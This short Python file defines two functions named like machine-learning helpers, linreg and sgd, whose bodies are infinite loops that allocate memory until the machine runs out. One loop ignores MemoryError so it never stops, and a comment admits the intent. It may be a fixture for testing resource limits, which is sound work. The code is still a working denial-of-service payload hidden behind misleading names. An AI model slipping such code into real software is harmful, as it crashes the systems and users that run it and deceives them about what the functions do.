# Lists that grow until there is no memory.
def linreg(X, w, b):
    hoard = []
    while True:
        hoard.append([0] * 1_000_000)


def sgd(params, lr, batch_size):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(10**6))
        except MemoryError:
            pass
